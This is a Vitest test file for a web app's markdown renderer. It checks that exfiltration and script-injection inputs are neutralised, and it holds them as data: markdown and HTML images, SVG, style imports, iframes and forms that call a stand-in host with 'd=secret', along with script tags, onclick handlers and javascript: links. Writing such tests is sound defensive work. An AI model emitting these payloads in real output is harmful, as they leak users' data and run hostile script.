import { expect, test } from "vitest";
import { renderMarkdown } from "../../../web/src/render/markdown";

function dom(markdown: string): HTMLElement {
  const root = document.createElement("div");
  root.append(renderMarkdown(markdown));
  return root;
}

test.each([
  ["inline image", "![a](https://evil.example/?d=secret)"],
  ["reference image", "![a][r]\n\n[r]: https://evil.example/?d=secret"],
  ["image in a link", "[![a](https://evil.example/?d=secret)](https://evil.example)"],
  ["HTML image", '<img src="https://evil.example/?d=secret">'],
  ["SVG", '<svg><image href="https://evil.example/?d=secret"/></svg>'],
  ["style", "<style>@import 'https://evil.example/?d=secret'</style>"],
  ["frame", '<iframe src="https://evil.example/?d=secret"></iframe>'],
  ["form", '<form action="https://evil.example"><button>Send</button></form>'],
])("%s loads nothing", (_name, markdown) => {
  const { innerHTML } = dom(markdown);

  expect(innerHTML).not.toMatch(/<(?:img|image|svg|style|iframe|form|button|link)\b/i);
});

test.each([
  ["script", "<script>alert(1)</script>"],
  ["handler", "<b onclick=alert(1)>x</b>"],
  ["script in a code fence's language", '```x"><script>alert(1)</script>\ncode\n```'],
])("%s becomes text", (_name, markdown) => {
  const root = dom(markdown);

  expect(root.querySelector("script, [onclick]")).toBe(null);
});

test.each(["javascript:alert(1)", "data:text/html,x", "vbscript:x", "blob:x", "java\tscript:x"])(
  "a link to %s leads nowhere",
  (address) => {
    const root = dom(`[click](<${address}>)`);

    expect([...root.querySelectorAll("a")].map((link) => link.getAttribute("href"))).not.toContain(
      address,
    );
    expect(root.querySelector("a[href]")).toBe(null);
  },
);

test("a link shows its whole address and gives nothing to the page it opens", () => {
  const root = dom("[your bank](https://evil.example/path?q=1)");

  const link = root.querySelector("a")!;
  expect(root.textContent).toContain("https://evil.example/path?q=1");
  expect(link.rel).toBe("noopener noreferrer");
  expect(link.target).toBe("_blank");
});

test("a link that is its own text is shown once", () => {
  expect(dom("https://example.org/a").textContent!.trim()).toBe("https://example.org/a");
});

test("a remote image is shown as a link to it", () => {
  const root = dom("![a chart](https://example.org/c.png)");

  expect(root.querySelector("a")!.getAttribute("href")).toBe("https://example.org/c.png");
  expect(root.textContent).toContain("Image: a chart");
});

test("code is highlighted and stays code", () => {
  const root = dom("```py\nif a < b: print('<b>')\n```");

  expect(root.querySelector(".hljs-keyword")!.textContent).toBe("if");
  expect(root.querySelector("pre")!.textContent).toContain("if a < b: print('<b>')");
});

test("columns of a table keep their alignment", () => {
  const root = dom("| a | b |\n|---|--:|\n| x | 1 |");

  expect(root.querySelector("tbody td:last-child")!.getAttribute("align")).toBe("right");
});
